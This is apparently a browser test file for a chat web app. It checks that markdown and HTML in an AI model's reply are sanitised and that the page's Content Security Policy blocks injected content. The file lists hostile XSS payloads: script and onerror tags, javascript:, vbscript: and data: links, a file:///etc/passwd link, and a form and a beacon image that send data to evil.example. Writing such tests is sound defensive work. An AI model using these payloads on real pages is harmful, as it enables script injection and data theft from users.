import assert from "node:assert/strict";
import { test } from "node:test";
import { startApp } from "../support/app.ts";
import { createSession, openBrowser, replies, say, skip, untilReply } from "./browser.ts";

/** What a model may write to get at its reader. */
const hostile = [
  "<script>document.title = 'owned'</script>",
  '<img src="x" onerror="document.title = \'owned\'">',
  '<svg onload="document.title = \'owned\'"><a href="javascript:alert(1)">x</a></svg>',
  '<iframe src="https://evil.example/"></iframe><style>* { display: none }</style>',
  '<form action="https://evil.example/"><input name="key" autofocus></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  "[script](javascript:document.title='owned')",
  "[tabbed](java\tscript:alert(1)) [data](data:text/html,<script>alert(1)</script>)",
  "[vb](vbscript:msgbox) [file](file:///etc/passwd) [blob](blob:https://evil.example/1)",
  "[own](/s/elsewhere) [hash](#main) <javascript:alert(1)>",
  "![beacon](https://evil.example/beacon.png?secret=1)",
  "![data](data:image/svg+xml,<svg/onload=alert(1)>)",
  "$\\href{javascript:alert(1)}{x}$ $\\htmlStyle{background:url(https://evil.example)}{y}$",
  "$\\includegraphics{https://evil.example/x.png}$ $\\fcolorbox{red}{blue}{z}$",
  "```html\n<script>document.title = 'owned'</script>\n```",
  "[good](https://good.example/page) [mail](mailto:a@good.example)",
];

test("what a model writes runs nothing, loads nothing and links to little", { skip }, async (t) => {
  const app = await startApp(t);
  const sessionId = await createSession(app, { modelId: "scripted:say" });
  const browser = await openBrowser(t, app);
  const foreign: string[] = [];
  browser.context.on("request", (request) => {
    if (!request.url().startsWith(app.url)) foreign.push(request.url());
  });
  const page = await browser.open(`/s/${sessionId}`);
  // Streamed, and then once more as it is read from the list.
  await say(page, hostile.join("\n\n"));
  for (const round of ["streamed", "listed"]) {
    await untilReply(page, "good mail");
    await page.locator(".maths math").first().waitFor();
    const reply = replies(page).first();
    assert.equal(
      await reply
        .locator("script, img, iframe, style, form, input, svg a, meta, object, embed")
        .count(),
      0,
      round,
    );
    const links = await reply
      .locator("a")
      .evaluateAll((anchors) =>
        anchors.map((anchor) => [
          anchor.getAttribute("href"),
          anchor.getAttribute("rel"),
          anchor.getAttribute("target"),
        ]),
      );
    const rel = "noopener noreferrer nofollow ugc";
    assert.deepEqual(links, [
      ["https://evil.example/beacon.png?secret=1", rel, "_blank"],
      ["https://good.example/page", rel, "_blank"],
      ["mailto:a@good.example", rel, "_blank"],
    ]);
    const handlers = await reply.evaluate((element) =>
      [...element.querySelectorAll("*")].flatMap((each) =>
        [...each.attributes].filter(({ name }) => name.startsWith("on")).map(({ name }) => name),
      ),
    );
    assert.deepEqual(handlers, []);
    assert.match(await reply.innerText(), /<script>document.title = 'owned'<\/script>/);
    await page.reload();
  }
  assert.notEqual(await page.title(), "owned");
  assert.deepEqual(foreign, []);
  assert.equal(browser.context.pages().length, 1);
});

test("a page with another origin's script or inline style would be stopped by its policy", {
  skip,
}, async (t) => {
  const app = await startApp(t);
  const browser = await openBrowser(t, app, { expectErrors: /violates|Content Security Policy/ });
  const page = await browser.open();
  const violations = await page.evaluate(async () => {
    const seen: string[] = [];
    addEventListener("securitypolicyviolation", (event) => seen.push(event.effectiveDirective));
    const tell = Promise.withResolvers<void>();
    addEventListener("securitypolicyviolation", () => seen.length === 3 && tell.resolve());
    const script = document.createElement("script");
    script.textContent = "document.title = 'owned'";
    const styled = document.createElement("p");
    styled.setAttribute("style", "color: red");
    const image = new Image();
    image.src = "https://evil.example/x.png";
    document.body.append(script, styled, image);
    await tell.promise;
    return seen.sort();
  });
  assert.deepEqual(violations, ["img-src", "script-src-elem", "style-src-attr"]);
  assert.notEqual(await page.title(), "owned");
});
